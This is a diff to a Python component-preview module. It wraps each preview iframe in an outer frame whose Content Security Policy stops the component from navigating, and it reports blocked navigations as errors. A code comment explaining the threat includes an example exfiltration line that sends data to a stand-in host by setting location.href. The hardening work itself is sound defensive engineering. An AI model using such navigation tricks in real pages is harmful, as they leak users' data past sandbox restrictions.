@@ -53,8 +53,43 @@ def guess_language(source: str) -> str:
     return "tsx" if _TYPESCRIPT.search(source) else "jsx"
 
 
+# A frame may always navigate itself, and neither the sandbox nor the frame's own CSP stops it:
+# `location.href = "http://host/leak?d=..."` would send data out. The Navigation API's cancelable
+# `navigate` event never fires in an opaque-origin document, so the component page runs one frame
+# deeper, in a wrapper whose CSP (default-src 'none', hence frame-src 'none') Chromium checks
+# before the request of any navigation of its child. The wrapper relays messages both ways, so
+# the host sees one frame; a navigation that was blocked still ends in a `load` of the child's
+# error page: the wrapper reports it and shows the component again, once.
+_WRAPPER_JS = """const f = document.querySelector("iframe"), page = f.getAttribute("srcdoc");
+let loads = 0;
+addEventListener("message", (e) => {
+  if (e.source === f.contentWindow) parent.postMessage(e.data, "*");
+  else if (e.source === parent) f.contentWindow.postMessage(e.data, "*");
+});
+f.addEventListener("load", () => {
+  loads += 1;
+  if (loads === 1 || loads > 3) return;
+  parent.postMessage({ lfwb: "preview", type: "error", error: { stage: "navigate", name: "NavigationBlocked", line: null,
+    message: "the component tried to navigate its frame to another page, which the preview does not allow" } }, "*");
+  if (loads === 2) f.srcdoc = page;
+});"""
+
+
 def runtime_page(source: str, props: dict | None = None, language: str | None = None) -> str:
-    """The whole HTML document of one preview frame (for `<iframe srcdoc=...>`)."""
+    """The whole HTML document of one preview frame (for `<iframe srcdoc=...>`): the component's
+    page inside a wrapper that stops it from navigating."""
+    inner = component_page(source, props, language).replace("&", "&amp;").replace('"', "&quot;")
+    return (
+        "<!doctype html><html><head><meta charset='utf-8'>"
+        f'<meta http-equiv="Content-Security-Policy" content="{CSP}">'
+        "<style>html,body{margin:0;height:100%;overflow:hidden}"
+        "iframe{display:block;width:100%;height:100%;border:0}</style></head><body>"
+        f'<iframe title="component" srcdoc="{inner}"></iframe><script>{_WRAPPER_JS}</script></body></html>'
+    )
+
+
+def component_page(source: str, props: dict | None = None, language: str | None = None) -> str:
+    """The component's own page: the bundled runtime and the source, which run inside the wrapper."""
     language = language or guess_language(source)
     config = json.dumps({"source": source, "props": props or {}, "language": language})
     # Inside <script> only "</" and "<!--" could end or confuse it; \u003c reads the same in JSON.
